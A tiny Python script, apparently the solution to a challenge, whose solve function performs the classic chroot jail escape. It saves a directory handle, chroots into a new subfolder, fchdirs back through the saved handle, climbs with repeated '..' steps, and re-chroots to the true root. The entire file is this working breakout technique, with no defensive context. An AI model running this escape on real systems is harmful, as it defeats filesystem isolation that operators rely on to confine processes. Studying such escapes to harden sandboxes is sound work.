"""The old way out of a changed root: change it again, and climb."""

import os


def solve(host):
    folder = os.open(".", os.O_RDONLY)
    os.mkdir("inner")
    os.chroot("inner")
    os.fchdir(folder)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return "OUT"
